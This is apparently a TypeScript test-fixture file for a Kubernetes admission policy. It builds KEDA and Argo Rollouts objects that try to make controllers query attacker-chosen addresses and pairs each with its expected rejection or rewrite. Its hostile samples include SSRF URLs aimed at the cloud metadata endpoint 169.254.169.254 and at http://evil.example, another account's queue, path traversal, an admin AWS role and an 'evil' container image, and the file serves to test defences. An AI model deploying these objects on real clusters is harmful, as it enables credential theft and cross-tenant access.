import { argo, type Ground, makers, prometheusUrl as address, type Row } from './ground.ts'
import { becomes, within } from './reason.ts'

/** Objects that make a controller ask an address of the team's choice, or ask as the platform. */
export function triesOfQuestions(ground: Ground): readonly Row[] {
  const { image } = ground
  const { make } = makers(ground)
  const scaler = (trigger: object) =>
    make('keda.sh/v1alpha1', 'ScaledObject', { spec: { scaleTargetRef: { name: 'try' }, triggers: [trigger] } })
  const cpu = { type: 'cpu', metricType: 'Utilization', metadata: { value: '70' } }
  const asked = scaler(cpu)
  const analysis = (provider: object) =>
    make(argo, 'AnalysisTemplate', { spec: { metrics: [{ name: 'try', provider }] } })
  const run = (provider: object) => make(argo, 'AnalysisRun', { spec: { metrics: [{ name: 'try', provider }] } })
  const asks = (more: object) => analysis({ prometheus: { address, query: 'up', ...more } })
  const aws = { kind: 'ClusterTriggerAuthentication', name: 'aws' }
  const queue = (more: object) =>
    scaler({
      type: 'aws-sqs-queue',
      metadata: { queueURL: `${ground.queues}try`, awsRegion: 'eu-west-1', queueLength: '5', ...more },
      authenticationRef: aws,
    })
  const question = { serverAddress: address, query: 'up', threshold: '1' }
  const asksUp = { prometheus: { address, query: 'up' } }
  const queueRight = within('spec.triggers[0]', '.metadata.queueURL', `${ground.queues}try`)

  return [
    [
      'more questions than anybody has',
      { ...asked, spec: { ...(asked['spec'] as object), triggers: Array.from({ length: 101 }, () => cpu) } },
      within('spec.triggers', '[100]'),
    ],
    [
      'an address that KEDA asks',
      scaler({
        type: 'metrics-api',
        metadata: { url: 'http://169.254.169.254/', valueLocation: 'a', targetValue: '1' },
      }),
      becomes('spec.triggers[0]', { type: 'prometheus', metadata: question }),
    ],
    [
      'a Prometheus of its own for KEDA',
      scaler({ type: 'prometheus', metadata: { serverAddress: 'http://evil.example', query: 'up', threshold: '1' } }),
      within('spec.triggers[0]', '.metadata.serverAddress', address),
    ],
    [
      'an address that KEDA asks as the platform',
      queue({ awsEndpoint: 'http://10.0.0.9:8080' }),
      within('spec.triggers[0]', '.metadata.awsEndpoint'),
    ],
    ['an address as a queue', queue({ queueURL: 'http://169.254.169.254/1/x' }), queueRight],
    [
      "another account's queue",
      queue({ queueURL: 'https://sqs.eu-west-1.amazonaws.com/999900001111/finance' }),
      queueRight,
    ],
    ['a queue behind dots', queue({ queueURL: `${ground.queues}../x` }), queueRight],
    [
      "the platform's identity for a question to Prometheus",
      scaler({
        type: 'prometheus',
        metadata: { ...question, customHeaders: 'a=b' },
        authenticationRef: aws,
      }),
      ['spec.triggers[0]', [['spec.triggers[0].authenticationRef'], ['spec.triggers[0].metadata.customHeaders']]],
    ],
    [
      'a token from any address',
      asks({ authentication: { oauth2: { tokenUrl: 'http://169.254.169.254/' } } }),
      'spec.metrics[0].provider.prometheus.authentication',
    ],
    [
      'a role of AWS',
      asks({ authentication: { sigv4: { roleArn: 'arn:aws:iam::1:role/admin' } } }),
      'spec.metrics[0].provider.prometheus.authentication',
    ],
    [
      'headers of its own',
      asks({ headers: [{ key: 'a', value: 'b' }] }),
      'spec.metrics[0].provider.prometheus.headers',
    ],
    [
      'a question each millisecond',
      make(argo, 'AnalysisTemplate', {
        spec: {
          metrics: [{ name: 'try', interval: '1ms', count: 1_000_000, provider: asksUp }],
        },
      }),
      [
        'spec.metrics[0].interval',
        [
          ['spec.metrics[0].interval', '30s'],
          ['spec.metrics[0].count', 5],
        ],
      ],
    ],
    [
      'a run that asks an address',
      run({ web: { url: 'http://169.254.169.254/', jsonPath: '{$.a}' } }),
      ['spec.metrics[0].provider.web', [['spec.metrics[0].provider', asksUp]]],
    ],
    [
      'a run that is a job',
      run({
        job: {
          spec: {
            template: { spec: { containers: [{ name: 'a', image: 'docker.io/evil/x' }], restartPolicy: 'Never' } },
          },
        },
      }),
      ['spec.metrics[0].provider.job', [['spec.metrics[0].provider', asksUp]]],
    ],
    [
      'an address that Rollouts asks',
      analysis({ web: { url: 'http://169.254.169.254/', jsonPath: '{$.a}' } }),
      ['spec.metrics[0].provider.web', [['spec.metrics[0].provider', asksUp]]],
    ],
    [
      'a job of Rollouts',
      analysis({
        job: { spec: { template: { spec: { containers: [{ name: 'a', image }], restartPolicy: 'Never' } } } },
      }),
      ['spec.metrics[0].provider.job', [['spec.metrics[0].provider', asksUp]]],
    ],
  ]
}
